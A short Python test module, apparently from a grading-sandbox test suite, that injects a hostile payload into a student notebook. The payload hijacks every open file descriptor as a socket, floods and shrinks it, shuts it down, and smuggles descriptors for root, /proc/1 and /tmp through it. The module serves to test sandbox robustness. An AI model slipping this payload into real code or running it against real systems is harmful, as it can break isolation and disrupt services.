"""Shut, shrink, flood and duplicate the channel, and send descriptors through it."""

from assignments.hostile import first, replaced

ATTACK = """
import array
import os
import socket
import time

def ends():
    for name in os.listdir("/proc/self/fd"):
        try:
            yield socket.socket(fileno=os.dup(int(name)))
        except OSError:
            pass

def drip(channel):
    for _ in range(30):
        channel.send(b"12345678+")
        time.sleep(0.05)

def pass_on(channel):
    found = [os.open(path, os.O_PATH) for path in ("/", "/proc/1", "/tmp")]
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", found))]
    for _ in range(30):
        channel.sendmsg([b"x"], rights)

def shrink(channel):
    for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, socket.SO_LINGER):
        channel.setsockopt(socket.SOL_SOCKET, option, 1)

def flood(channel):
    channel.setblocking(False)
    for _ in range(10**5):
        channel.send(bytes(1 << 16))

def shut(channel):
    channel.shutdown(socket.SHUT_RDWR)

def attack(*arguments, **options):
    for way in (shrink, pass_on, drip, flood, shut):
        for channel in ends():
            try:
                way(channel)
            except (OSError, TypeError):
                pass
            channel.detach()
"""


def spoil(notebook, honest):
    """Do so in a cell, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
